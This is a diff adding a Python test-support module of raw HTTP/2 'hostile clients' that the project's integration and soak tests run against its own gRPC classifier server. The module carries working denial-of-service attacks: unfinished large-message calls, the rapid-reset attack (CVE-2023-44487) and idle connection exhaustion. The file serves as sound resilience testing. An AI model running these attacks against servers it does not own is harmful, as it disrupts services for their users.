@@ -1,0 +1,286 @@
+"""Hostile clients, speaking raw HTTP/2 where a gRPC library would refuse to misbehave.
+
+The attacks of issue 15's table, each an async function the integration tests (``tests/integration/
+test_hostile.py``) and the soak (``loadtest/soak.py``) run against a real server:
+
+* :func:`unfinished_calls`: many calls on one connection, each declaring a large message and sending as
+  much of it as the server lets in, never finishing it.
+* :func:`rapid_resets`: open a call and reset it at once, over and over (CVE-2023-44487).
+* :func:`idle_connections`: open TCP connections and never speak.
+
+A :class:`RawH2` connection tracks what the server allowed (flow-control windows) and what it answered
+(status, resets, GOAWAY), so a test can say how many bytes each call could hold before being refused.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import socket
+import struct
+from collections import Counter
+from collections.abc import Sequence
+from dataclasses import dataclass, field
+
+import h2.config
+import h2.connection
+import h2.events
+import h2.exceptions
+
+CLASSIFY = "/hark.v1.Classifier/Classify"
+STREAM = "/hark.v1.Classifier/StreamClassify"
+HEALTH_WATCH = "/grpc.health.v1.Health/Watch"
+
+
+@dataclass
+class CallState:
+    """One raw call: what was sent, and how the server ended it (if it did)."""
+
+    declared: int = 0
+    sent: int = 0
+    status: str | None = None  # grpc-status, as sent in the trailers (or headers, for a trailers-only reply)
+    message: str = ""
+    reset: bool = False
+    ended: bool = False
+
+
+@dataclass
+class RawH2:
+    """One HTTP/2 connection speaking just enough gRPC to start calls and send partial messages."""
+
+    reader: asyncio.StreamReader
+    writer: asyncio.StreamWriter
+    conn: h2.connection.H2Connection
+    authority: str
+    calls: dict[int, CallState] = field(default_factory=dict)
+    goaway: bool = False
+    closed: bool = False
+    events: Counter[str] = field(default_factory=Counter)
+    _pump: asyncio.Task[None] | None = None
+    _window: asyncio.Event = field(default_factory=asyncio.Event)
+
+    @classmethod
+    async def open(cls, address: str) -> RawH2:
+        host, port = address.rsplit(":", 1)
+        reader, writer = await asyncio.open_connection(host.strip("[]"), int(port))
+        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
+        conn = h2.connection.H2Connection(config)
+        conn.initiate_connection()
+        writer.write(conn.data_to_send())
+        raw = cls(reader, writer, conn, address)
+        raw._pump = asyncio.get_running_loop().create_task(raw._read())
+        return raw
+
+    def start_call(self, path: str, metadata: Sequence[tuple[str, str]] = ()) -> int:
+        """Send a call's headers; returns its stream id."""
+        stream_id = self.conn.get_next_available_stream_id()
+        headers = [
+            (":method", "POST"),
+            (":scheme", "http"),
+            (":path", path),
+            (":authority", self.authority),
+            ("content-type", "application/grpc"),
+            ("te", "trailers"),
+            *metadata,
+        ]
+        self.conn.send_headers(stream_id, headers)
+        self.calls[stream_id] = CallState()
+        self._flush()
+        return stream_id
+
+    def send_message_prefix(self, stream_id: int, declared: int) -> None:
+        """The 5-byte gRPC message header declaring ``declared`` bytes, none of them yet."""
+        self.calls[stream_id].declared = declared
+        self.conn.send_data(stream_id, struct.pack(">?I", False, declared))
+        self._flush()
+
+    def send_body(self, stream_id: int, limit: int) -> int:
+        """Send up to ``limit`` more bytes of the declared message, as far as the windows allow now."""
+        call = self.calls[stream_id]
+        if call.ended or call.reset or self.closed:
+            return 0
+        try:
+            room = min(
+                self.conn.local_flow_control_window(stream_id), self.conn.max_outbound_frame_size, limit, 1 << 20
+            )
+            if room <= 0:
+                return 0
+            self.conn.send_data(stream_id, bytes(room))
+        except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError, KeyError):
+            return 0
+        call.sent += room
+        self._flush()
+        return room
+
+    def reset(self, stream_id: int) -> None:
+        with contextlib.suppress(h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError):
+            self.conn.reset_stream(stream_id)
+        self._flush()
+
+    async def fill(self, stream_ids: Sequence[int], seconds: float) -> None:
+        """Keep sending every call's declared bytes for ``seconds``, whenever the server opens a window."""
+        loop = asyncio.get_running_loop()
+        end = loop.time() + seconds
+        while loop.time() < end and not self.closed:
+            sent = 0
+            for stream_id in stream_ids:
+                call = self.calls[stream_id]
+                sent += self.send_body(stream_id, call.declared - call.sent)
+            if sent == 0:
+                self._window.clear()
+                with contextlib.suppress(TimeoutError):
+                    await asyncio.wait_for(self._window.wait(), max(0.0, min(0.2, end - loop.time())))
+            else:
+                await self.writer.drain()
+
+    async def close(self) -> None:
+        if self._pump is not None:
+            self._pump.cancel()
+            with contextlib.suppress(asyncio.CancelledError, Exception):
+                await self._pump
+        self.closed = True
+        self.writer.close()
+        with contextlib.suppress(Exception):
+            await self.writer.wait_closed()
+
+    def _flush(self) -> None:
+        if not self.closed:
+            self.writer.write(self.conn.data_to_send())
+
+    async def _read(self) -> None:
+        try:
+            while data := await self.reader.read(65536):
+                try:
+                    events = self.conn.receive_data(data)
+                except h2.exceptions.ProtocolError:
+                    break
+                for event in events:
+                    self._on(event)
+                self._flush()
+        except (ConnectionError, OSError):
+            pass
+        finally:
+            self.closed = True
+            self._window.set()
+
+    def _on(self, event: h2.events.Event) -> None:
+        self.events[type(event).__name__] += 1
+        if isinstance(event, h2.events.WindowUpdated | h2.events.RemoteSettingsChanged):
+            self._window.set()
+        elif isinstance(event, h2.events.ResponseReceived | h2.events.TrailersReceived):
+            call = self.calls.get(event.stream_id)
+            if call is not None:
+                headers = {str(k): str(v) for k, v in event.headers}
+                if "grpc-status" in headers:
+                    call.status = headers["grpc-status"]
+                    call.message = headers.get("grpc-message", "")
+        elif isinstance(event, h2.events.StreamEnded):
+            if (call := self.calls.get(event.stream_id)) is not None:
+                call.ended = True
+        elif isinstance(event, h2.events.StreamReset):
+            if (call := self.calls.get(event.stream_id)) is not None:
+                call.reset = True
+        elif isinstance(event, h2.events.ConnectionTerminated):
+            self.goaway = True
+        elif isinstance(event, h2.events.DataReceived):
+            self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
+
+
+@dataclass
+class AttackReport:
+    """What an attack managed: calls started, bytes the server let in, and how it answered."""
+
+    calls: int = 0
+    bytes_in: int = 0
+    statuses: Counter[str] = field(default_factory=Counter)
+    resets: int = 0
+    goaways: int = 0
+    connections: int = 0
+
+    def absorb(self, raw: RawH2) -> None:
+        self.connections += 1
+        self.goaways += raw.goaway
+        for call in raw.calls.values():
+            self.calls += 1
+            self.bytes_in += call.sent
+            self.resets += call.reset
+            if call.status is not None:
+                self.statuses[call.status] += 1
+
+
+async def unfinished_calls(
+    address: str,
+    *,
+    calls: int = 200,
+    declared: int = 4_000_000,
+    seconds: float = 2.0,
+    path: str = CLASSIFY,
+    metadata: Sequence[tuple[str, str]] = (),
+    connections: int = 1,
+) -> AttackReport:
+    """``calls`` calls spread over ``connections`` connections, each declaring a ``declared``-byte message
+    and sending all the server will take for ``seconds``, never finishing; then the connections close."""
+    report = AttackReport()
+    raws = [await RawH2.open(address) for _ in range(connections)]
+    try:
+        await asyncio.sleep(0.05)  # the server's SETTINGS (its stream limit and windows) arrive
+        ids: list[list[int]] = [[] for _ in raws]
+        for k in range(calls):
+            raw = raws[k % connections]
+            if raw.closed:
+                continue
+            try:
+                stream_id = raw.start_call(path, metadata)
+                raw.send_message_prefix(stream_id, declared)
+            except h2.exceptions.TooManyStreamsError:
+                continue  # the server's MAX_CONCURRENT_STREAMS: a real client would wait
+            ids[k % connections].append(stream_id)
+        await asyncio.gather(*(raw.fill(i, seconds) for raw, i in zip(raws, ids, strict=True)))
+    finally:
+        for raw in raws:
+            report.absorb(raw)
+            await raw.close()
+    return report
+
+
+async def rapid_resets(address: str, *, seconds: float = 2.0, path: str = CLASSIFY) -> AttackReport:
+    """Open a call and reset it at once, as fast as the connection allows, for ``seconds``
+    (reconnecting when the server closes the connection, as an attacker would)."""
+    report = AttackReport()
+    loop = asyncio.get_running_loop()
+    end = loop.time() + seconds
+    while loop.time() < end:
+        raw = await RawH2.open(address)
+        try:
+            while loop.time() < end and not raw.closed:
+                for _ in range(100):
+                    try:
+                        stream_id = raw.start_call(path)
+                    except (h2.exceptions.TooManyStreamsError, h2.exceptions.ProtocolError):
+                        break
+                    raw.reset(stream_id)
+                await raw.writer.drain()
+                await asyncio.sleep(0)
+        except (ConnectionError, OSError):
+            pass
+        finally:
+            report.absorb(raw)
+            await raw.close()
+    return report
+
+
+async def idle_connections(address: str, count: int) -> list[socket.socket]:
+    """``count`` TCP connections that never send a byte; the caller closes them. Stops early (returns
+    fewer) when the server or this process can take no more."""
+    host, port = address.rsplit(":", 1)
+    sockets: list[socket.socket] = []
+    for _ in range(count):
+        s = socket.socket(socket.AF_INET6 if ":" in host.strip("[]") else socket.AF_INET)
+        s.setblocking(False)
+        try:
+            await asyncio.get_running_loop().sock_connect(s, (host.strip("[]"), int(port)))
+        except OSError:
+            s.close()
+            break
+        sockets.append(s)
+    return sockets
